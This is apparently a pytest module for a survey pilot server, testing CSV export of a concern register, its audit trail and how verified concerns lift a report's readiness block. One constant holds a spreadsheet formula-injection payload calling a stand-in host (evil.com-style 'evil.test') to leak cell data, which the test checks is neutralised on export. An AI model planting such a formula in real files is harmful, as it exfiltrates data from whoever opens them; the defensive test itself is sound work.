"""The concern register as a file: `pilotkit export-concerns` and the download from the
concerns page (neutralised cells, audited, matched to the notes by note id), and a report
run of the server that a verified concern no longer holds back (both engines)."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient
from piccolo.querystring import QueryString

from evaluation import evaluate, read_concerns, read_notes, read_responses
from evaluation.concerns import CONCERN_COLUMNS
from pilotkit.demo.builder import build_linked_pilot
from pilotkit.demo.scenarios import CRM_SCENARIO
from pilotkit.instruments import load_instrument, load_instrument_file
from survey_server.app import create_app
from survey_server.services.accounts import add_member
from survey_server.services.audit import COMMAND_LINE
from survey_server.services.report_inputs import export_pilot_inputs, pilot_report_request
from survey_server.settings import Settings
from tests.helpers import run_cli
from tests.staff.conftest import PILOT_CORE, Browser, StaffSite, csrf_of

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x") transfers freeze'


def _post(browser: Browser, path: str, **data: str) -> Any:
    csrf = csrf_of(browser.get("/staff/password").text)
    response = browser.post(path, data={"csrf_token": csrf, **data}, follow_redirects=False)
    assert response.status_code == 303, response.text
    return response


def _blocker_note(site: StaffSite, slug: str, text: str, dimension: str = "processes") -> int:
    """A facilitator's blocker note (its concern opens by itself); the concern's id."""
    facilitator = site.browser("facilitator@example.org")
    session = _post(
        facilitator,
        f"/staff/pilots/{slug}/sessions/new",
        held_on="2026-11-02",
        kind="focus_group",
        attendees="8",
        facilitator="Group lead",
    ).headers["location"]
    _post(
        facilitator,
        f"{session}/notes",
        text=text,
        dimension=dimension,
        sentiment="negative",
        severity="blocker",
    )
    rows = site.run(
        lambda e: e.run_querystring(QueryString('SELECT MAX("id") AS id FROM "concern"'))
    )
    return int(rows[0]["id"])


def _verify(site: StaffSite, slug: str, concern_id: int) -> None:
    base = f"/staff/pilots/{slug}/concerns/{concern_id}"
    manager = site.browser("manager@example.org")
    _post(manager, base + "/plan", owner="manager@example.org", due_on="2026-12-01", plan="-fix")
    _post(manager, base + "/mitigation", mitigation="Release 2.1", evidence="https://x.test/r")
    _post(
        site.browser("facilitator@example.org"),
        base + "/verification",
        verification="Checked in a follow-up group",
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_register_exports_from_the_page_and_the_command_line(
    team: StaffSite, tmp_path: Path
) -> None:
    concern_id = _blocker_note(team, "alpha", FORMULA)
    _verify(team, "alpha", concern_id)
    executive = team.browser("executive@example.org")
    page = executive.get("/staff/pilots/alpha/concerns").text
    assert 'href="/staff/api/v1/pilots/alpha/concerns.csv"' in page
    download = executive.get("/staff/api/v1/pilots/alpha/concerns.csv")
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert 'filename="alpha-concerns.csv"' in download.headers["content-disposition"]
    assert download.text.splitlines()[0] == ",".join(CONCERN_COLUMNS)
    (row,) = _rows(download.text)
    assert row["title"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert row["plan"] == "'-fix"
    assert (row["status"], row["source"], row["severity"]) == ("verified", "note", "blocker")
    assert row["verified_by"] == "facilitator@example.org"
    assert row["verified_by_role"] == "facilitator"
    assert row["owner"] == "manager@example.org" and row["updated_at"].endswith("Z")
    # the note id matches the notes table's, by which the kit finds the note's concern
    notes = team.browser("analyst@example.org").get("/staff/api/v1/pilots/alpha/notes.csv")
    assert _rows(notes.text)[0]["note_id"] == row["note_id"] != ""
    # another pilot's register is not found; the beta register is empty for its admin
    assert executive.get("/staff/api/v1/pilots/beta/concerns.csv").status_code == 404

    env = {"DATABASE_URL": team.database_url}
    out = tmp_path / "concerns.csv"
    done = run_cli("export-concerns", "alpha", "--out", str(out), env=env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"wrote 1 concern to {out}"
    assert out.read_bytes() == download.content
    (read,) = read_concerns(out)
    assert read.title == FORMULA and read.plan == "-fix" and read.status == "verified"
    for args, message in (
        (("export-concerns", "alpha", "--out", str(tmp_path / "c.txt")), "must end in .csv"),
        (("export-concerns", "nope", "--out", str(out)), "nope"),
    ):
        refused = run_cli(*args, env=env)
        assert refused.returncode != 0 and "Traceback" not in refused.stderr
        assert refused.stderr.startswith("error: ") and message in refused.stderr

    audit = team.run(
        lambda e: e.run_querystring(
            QueryString(
                'SELECT "action", "actor_email", "after" FROM "audit_entry" '
                'WHERE "action" LIKE \'export.%\' ORDER BY "id"'
            )
        )
    )
    exports = [(a["action"], a["actor_email"]) for a in audit if "concerns" in str(a["after"])]
    assert exports == [
        ("export.download", "executive@example.org"),
        ("export.write", "command line"),
    ]


def _team_pilot(site: StaffSite) -> None:
    """Pilot `crm`: 24 people answered both waves, every area clearly better."""
    instrument = load_instrument_file(PILOT_CORE)
    scenario = replace(
        CRM_SCENARIO,
        participants=24,
        effects={d.id: 0.8 for d in instrument.dimensions},
        attrition=0.0,
    )
    site.run(
        lambda e: build_linked_pilot(
            e, slug="crm", name="CRM pilot", instrument=instrument, scenario=scenario
        )
    )
    for role in ("manager", "facilitator"):
        site.user(f"{role}@example.org", role)
        site.run(lambda e, role=role: add_member(e, "crm", f"{role}@example.org", COMMAND_LINE))


def _server_run_verdict(site: StaffSite, folder: Path) -> tuple[Any, Any]:
    """What a report run of the server reads (the worker's export and request), evaluated
    as the report notebook evaluates it."""
    inputs = site.run(lambda e: export_pilot_inputs(e, "crm", folder))
    request = pilot_report_request(inputs, {"language": "en"})
    register = request.extra_inputs.get("concerns")
    result = evaluate(
        load_instrument(str(request.instrument)),
        read_responses(request.responses),
        notes=read_notes(request.notes) if request.notes else None,
        concerns=read_concerns(register) if register else None,
        invited=int(request.overrides["invited"]) or None,
    )
    return request, result


def test_a_server_run_after_a_verified_mitigation_is_no_longer_blocked(
    staff_site: StaffSite, tmp_path: Path
) -> None:
    _team_pilot(staff_site)
    request, before = _server_run_verdict(staff_site, tmp_path / "before")
    assert before.readiness.verdict == "ready" and "concerns" not in request.extra_inputs

    concern_id = _blocker_note(staff_site, "crm", "Transfers freeze the screen.")
    request, blocked = _server_run_verdict(staff_site, tmp_path / "blocked")
    assert request.extra_inputs["concerns"].name == "crm-concerns.csv"
    assert blocked.readiness.verdict == "not_ready"
    assert blocked.to_summary()["concerns"][0]["effect"] == "holds"

    _verify(staff_site, "crm", concern_id)
    _, lifted = _server_run_verdict(staff_site, tmp_path / "lifted")
    assert lifted.readiness.verdict == "ready"
    (entry,) = lifted.to_summary()["concerns"]
    assert (entry["id"], entry["status"], entry["effect"]) == (concern_id, "verified", "resolved")
    assert entry["mitigation"] == "Release 2.1"
    assert entry["verification"] == "Checked in a follow-up group"
    assert entry["verified_by_role"] == "facilitator"


@pytest.fixture
def worker_site(database_url: str, tmp_path: Path) -> Iterator[StaffSite]:
    settings = Settings(
        database_url=database_url,
        base_url="http://testserver",
        reports_dir=tmp_path / "reports",
        report_worker=True,
        report_kernels=1,
    )
    with TestClient(app=create_app(settings)) as client:
        yield StaffSite(database_url, client)


@pytest.mark.slow
def test_the_report_worker_lists_how_a_blocker_was_resolved(worker_site: StaffSite) -> None:
    _team_pilot(worker_site)
    _verify(worker_site, "crm", _blocker_note(worker_site, "crm", "Transfers freeze."))
    manager = worker_site.browser("manager@example.org")
    csrf = csrf_of(manager.get("/staff/pilots/crm/reports").text)
    started = manager.post(
        "/staff/pilots/crm/reports",
        data={"csrf_token": csrf, "language": "en", "alpha": "0.05"},
        follow_redirects=False,
    )
    assert started.status_code == 303, started.text
    run_id = started.headers["location"].rsplit("#run-", 1)[1]
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        job = manager.get("/staff/pilots/crm/reports/progress").json()["jobs"][0]
        if job["status"] in ("succeeded", "failed"):
            break
        time.sleep(0.5)
    assert job["status"] == "succeeded", job
    run_dir = worker_site.reports_dir / "crm" / run_id
    summary = json.loads((run_dir / "summary.json").read_text())
    assert summary["readiness"]["verdict"] == "ready"
    assert [c["effect"] for c in summary["concerns"]] == ["resolved"]
    report = manager.get(f"/staff/pilots/crm/reports/{run_id}/report.html").text
    assert "Resolved, and how" in report and "Checked in a follow-up group" in report
